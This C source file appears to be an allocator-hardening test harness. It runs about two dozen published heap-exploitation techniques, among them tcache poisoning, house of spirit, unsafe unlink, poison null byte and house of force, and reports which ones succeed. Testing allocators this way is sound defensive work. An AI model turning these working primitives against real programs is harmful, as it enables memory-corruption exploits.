// What an attacker gets who has one error of a program to use: attacks.c NAME.  Each is a published technique in the words of
// any allocator, whose tries suit several; the names are those under which they are known (docs/security.md).
//
// Prints what was got and ends with 10; prints nothing and ends with 0 if nothing was.  An allocator that finds out ends the
// program, and one whose memory is out of reach gets it a signal.
#include <malloc.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

enum { kGot = 10, kSome = 64, kMany = 20000 };

// What the attacker wants a pointer to, or wants to write to.  In front of it lie words that can look like a header.
static struct {
  uintptr_t header[16];
  uintptr_t words[64];
  uintptr_t trailer[64];
} __attribute__((aligned(64))) target;

// The compiler must not know where a pointer comes from: nothing here is what it may assume of a program.
static void* hidden(void* pointer) {
  __asm__ volatile("" : "+r"(pointer) : : "memory");
  return pointer;
}
static void* get(size_t size) { return hidden(malloc(size)); }
static void drop(void* block) { free(hidden(block)); }
static void set(void* at, size_t index, uintptr_t value) { ((volatile uintptr_t*)hidden(at))[index] = value; }

// Nothing is allocated any more: that could end in the allocator's own message.
static void got(const char* what) {
  if (write(STDOUT_FILENO, what, strlen(what)) < 0 || write(STDOUT_FILENO, "\n", 1) < 0) _exit(1);
  _exit(kGot);
}
static int is_in_target(const void* block) {
  return (uintptr_t)block >= (uintptr_t)&target && (uintptr_t)block < (uintptr_t)(&target + 1);
}
// Asks for blocks until one is the target.
static void ask_for_target(size_t size) {
  for (int i = 0; i < kSome; ++i)
    if (is_in_target(get(size))) got("a block where the attacker wanted it");
}
// Whether two live blocks share memory.
static void ask_for_twins(size_t size) {
  char* blocks[4 * kSome];
  for (int i = 0; i < 4 * kSome; ++i) {
    blocks[i] = get(size);
    for (int k = 0; k < i; ++k)
      if (blocks[i] < blocks[k] + size && blocks[k] < blocks[i] + size) got("two live blocks in one place");
  }
}

// ---- use after free of what a list of free blocks may lie in

// The first words of a freed block lead to the target: as they are, or as glibc hides them.
static void poison(int hides) {
  char *a = get(64), *b = get(64);
  drop(a);
  drop(b);
  uintptr_t to = (uintptr_t)target.words;
  set(b, 0, hides ? (uintptr_t)b >> 12 ^ to : to);
  ask_for_target(64);
}
static void tcache_poisoning(void) { poison(1); }
static void free_list_poisoning(void) { poison(0); }

// The same words, reached by an overflow out of a live block in front of a free one.
static void overflow_into_free_list(int hides) {
  char* blocks[kSome];
  for (int i = 0; i < kSome; ++i) blocks[i] = get(64);
  for (int i = 1; i < kSome; i += 2) drop(blocks[i]);
  for (int i = 0; i < kSome; i += 2)
    for (size_t word = 8; word < 16; ++word) {
      uintptr_t at = (uintptr_t)blocks[i] + 8 * word, to = (uintptr_t)target.words;
      uintptr_t old = ((uintptr_t*)blocks[i])[word];
      if (old == 0 || old == 0x51) continue;  // nothing, or a size
      set(blocks[i], word, hides ? at >> 12 ^ to : to);
    }
  ask_for_target(64);
}
static void overflow_poisoning(void) { overflow_into_free_list(0); }
static void overflow_poisoning_hidden(void) { overflow_into_free_list(1); }

// ---- double frees

static void double_free(void) {
  char *a = get(64), *b = get(64);
  drop(a);
  drop(b);
  drop(a);
  ask_for_twins(64);
}
// What marks the block as free is overwritten in between, as far as it lies in the block.
static void double_free_unmarked(void) {
  char *a = get(64), *b = get(64);
  drop(a);
  drop(b);
  for (size_t i = 0; i < 8; ++i) set(a, i, 0x4141414141414141);
  drop(a);
  ask_for_twins(64);
}
// More than a cache holds lie between the two.
static void double_free_far(void) {
  static char* others[kMany];
  char* a = get(64);
  for (int i = 0; i < kMany; ++i) others[i] = get(64);
  drop(a);
  for (int i = 0; i < kMany; ++i) drop(others[i]);
  drop(a);
  ask_for_twins(64);
}
// The block was asked for again: now somebody else has it too.
static void double_free_reused(void) {
  char* a = get(64);
  drop(a);
  char* victim = get(64);
  drop(a);
  char* attackers = get(64);
  if (attackers == victim) got("a block that somebody has");
  ask_for_twins(64);
}
static void* drop_it(void* block) {
  drop(block);
  return NULL;
}
static void double_free_by_two_threads(void) {
  for (int i = 0; i < 200; ++i) {
    char* a = get(64);
    pthread_t other;
    pthread_create(&other, NULL, drop_it, a);
    drop(a);
    pthread_join(other, NULL);
  }
  ask_for_twins(64);
}

// ---- frees of what is no block

// A fake block in the program's data, with the header that glibc would expect.
static void house_of_spirit(void) {
  target.header[15] = 0x51;
  target.words[9] = 0x51;
  drop(target.words);
  ask_for_target(64);
}
// A block inside a block, which the attacker fills.
static void fake_block_inside(void) {
  uintptr_t* block = get(1024);
  for (size_t i = 0; i < 128; ++i) set(block, i, i % 2 == 1 ? 0x51 : 0);
  drop(block + 16);
  for (int i = 0; i < kSome; ++i) {
    char* inside = get(64);
    if (inside >= (char*)block && inside < (char*)block + 1024) got("a block inside a live one");
  }
}

// ---- overflows over what may lie between blocks

// Where headers lie between blocks, the next one says that its block is longer than it is.
static void overlapping_blocks(void) {
  char *a = get(1032), *b = get(1032), *c = get(1032);
  char* end = get(1032);
  set(a, 129, 2 * 1040 + 1);
  drop(b);
  char* longer = get(2000);
  if (longer <= c && c < longer + 2000) got("a block over a live one");
  (void)end;
}
// One zero too many at the end of a string.
static void poison_null_byte(void) {
  char *a = get(1032), *b = get(0x4f8), *c = get(1032);
  char* fake = a + 16;
  set(fake, 1, 1008);
  set(fake, 2, (uintptr_t)fake);
  set(fake, 3, (uintptr_t)fake);
  set(a, 128, 1008);  // from the fake to the end of this one
  *(volatile char*)(a + 1032) = 0;
  drop(b);
  char* over = get(1500);
  if (over < a + 1032 && a < over + 1500) got("a block over a live one");
  (void)c;
}
// Links of a free block, forged, write where they point to when it is taken out of its list.
static void unsafe_unlink(void) {
  static uintptr_t* owner;
  uintptr_t *a = get(1056), *b = get(1056);
  owner = a;
  set(a, 1, 1056);
  set(a, 2, (uintptr_t)(&owner - 3));
  set(a, 3, (uintptr_t)(&owner - 2));
  set(a, 132, 1056);
  set(a, 133, 1072);  // the block in front is free
  drop(b);
  if (hidden(*(void* volatile*)&owner) != a) got("a write to the program's pointer");
}
// The header of a block with a mapping of its own says that it is longer: its free takes the next one along.
static void house_of_muney(void) {
#if defined(M_MMAP_THRESHOLD)
  mallopt(M_MMAP_THRESHOLD, 128 << 10);  // as many programs set it: glibc would raise it otherwise
#endif
  char* blocks[8];
  for (int i = 0; i < 8; ++i) blocks[i] = get(1 << 20);
  char *low = blocks[0], *next = NULL;
  for (int i = 1; i < 8; ++i)
    if (blocks[i] < low) low = blocks[i];
  for (int i = 0; i < 8; ++i)
    if (blocks[i] > low && (next == NULL || blocks[i] < next)) next = blocks[i];
  memset(next, 7, 1 << 20);
  size_t page = (size_t)sysconf(_SC_PAGESIZE), bytes = (size_t)(next - low) + (1 << 20) + page;
  set(low - 8, 0, (bytes & ~(page - 1)) | 2);  // an under-run by one word
  drop(low);
  char* over = get((1 << 20) + (1 << 19));
  if (over <= next && next < over + (1 << 20) + (1 << 19)) got("a block over a live one");
}
// What lies behind the last block that can be had: glibc's top.
static void house_of_force(void) {
  char* a = get(256);
  set(a, 33, UINTPTR_MAX);
  uintptr_t distance = (uintptr_t)target.words - (uintptr_t)a - 272 - 32;
  get(distance);
  ask_for_target(64);
}

// ---- overflows over the program's own data

struct victim {
  void (*call)(void);
  char text[56];
};
static void harmless(void) {}
// Blocks of a victim and of the attacker side by side; the attacker writes two words too far.
static void overflow_into_neighbour(void) {
  struct victim* victims[kSome];
  char* buffers[kSome];
  for (int i = 0; i < kSome; ++i) {
    buffers[i] = get(64);
    victims[i] = get(sizeof(struct victim));
    victims[i]->call = harmless;
  }
  for (int i = 0; i < kSome; ++i)
    for (size_t word = 8; word < 12; ++word) set(buffers[i], word, 0x4141414141414141);
  for (int i = 0; i < kSome; ++i) drop(buffers[i]);  // the program goes on, and frees before it calls
  for (int i = 0; i < kSome; ++i)
    if (*(volatile uintptr_t*)&victims[i]->call != (uintptr_t)harmless) got("a victim's pointer");
}
// The same with blocks of 1 MB and a copy of 16 KB too much.
static void overflow_of_a_large_block(void) {
  char* blocks[8];
  for (int i = 0; i < 8; ++i) memset(blocks[i] = get(1 << 20), 1, 1 << 20);
  for (int i = 0; i < 8; ++i) memset(blocks[i] + (1 << 20), 0x41, 16 << 10);
  for (int i = 0; i < 8; ++i)
    for (size_t k = 0; k < 16 << 10; ++k)
      if (blocks[i][k] == 0x41) got("a victim's data");
}

// ---- stale pointers

static void confuse(int requests) {
  struct victim* stale = get(sizeof *stale);
  stale->call = harmless;
  drop(stale);
  for (int i = 0; i < requests; ++i) {
    uintptr_t* attackers = get(sizeof *stale);
    set(attackers, 0, 0x4141414141414141);
  }
  if (*(volatile uintptr_t*)&stale->call == 0x4141414141414141) got("what a stale pointer leads to");
}
static void type_confusion(void) { confuse(1); }
static void type_confusion_by_spray(void) { confuse(kMany); }
// Whole pages of one type become pages of another.
static void cross_cache(void) {
  static struct victim* victims[kMany];
  for (int i = 0; i < kMany; ++i) victims[i] = get(sizeof(struct victim));
  struct victim* stale = victims[kMany / 2];
  for (int i = 0; i < kMany; ++i) drop(victims[i]);
  for (int i = 0; i < kMany; ++i) memset(get(192), 0x41, 192);
  if (*(volatile uintptr_t*)&stale->call == 0x4141414141414141) got("what a stale pointer leads to");
}
static void stale_large_block(void) {
  uintptr_t* stale = get(1 << 20);
  memset(stale, 1, 1 << 20);
  drop(stale);
  for (int i = 0; i < 8; ++i) memset(get(1 << 20), 0x41, 1 << 20);
  if (((volatile uintptr_t*)hidden(stale))[1000] == 0x4141414141414141) got("what a stale pointer leads to");
}

// ---- what was there before

static int secrets_in(const unsigned char* bytes, size_t n) {
  int found = 0;
  for (size_t i = 0; i < n; ++i) found += bytes[i] == 0x5e;
  return found >= 16;
}
static void uninitialised_memory(void) {
  unsigned char* secret = get(200);
  memset(secret, 0x5e, 200);
  drop(secret);
  for (int i = 0; i < kSome; ++i)
    if (secrets_in(get(200), 200)) got("what was freed");
}
static void read_after_free(void) {
  unsigned char* secret = get(200);
  memset(secret, 0x5e, 200);
  drop(secret);
  if (secrets_in(hidden(secret), 200)) got("what was freed");
}

static const struct {
  const char* name;
  void (*run)(void);
} kAttacks[] = {
#define ATTACK(name) {#name, name}
    ATTACK(tcache_poisoning),
    ATTACK(free_list_poisoning),
    ATTACK(overflow_poisoning),
    ATTACK(overflow_poisoning_hidden),
    ATTACK(double_free),
    ATTACK(double_free_unmarked),
    ATTACK(double_free_far),
    ATTACK(double_free_reused),
    ATTACK(double_free_by_two_threads),
    ATTACK(house_of_spirit),
    ATTACK(fake_block_inside),
    ATTACK(overlapping_blocks),
    ATTACK(poison_null_byte),
    ATTACK(unsafe_unlink),
    ATTACK(house_of_muney),
    ATTACK(house_of_force),
    ATTACK(overflow_into_neighbour),
    ATTACK(overflow_of_a_large_block),
    ATTACK(type_confusion),
    ATTACK(type_confusion_by_spray),
    ATTACK(cross_cache),
    ATTACK(stale_large_block),
    ATTACK(uninitialised_memory),
    ATTACK(read_after_free),
};

int main(int argc, char** argv) {
  for (size_t i = 0; i < sizeof kAttacks / sizeof *kAttacks; ++i) {
    if (argc < 2) printf("%s\n", kAttacks[i].name);
    if (argc < 2 || strcmp(argv[1], kAttacks[i].name) != 0) continue;
    kAttacks[i].run();
    return 0;
  }
  if (argc > 1) fprintf(stderr, "attacks: no attack %s\n", argv[1]);
  return argc > 1 ? 2 : 0;
}
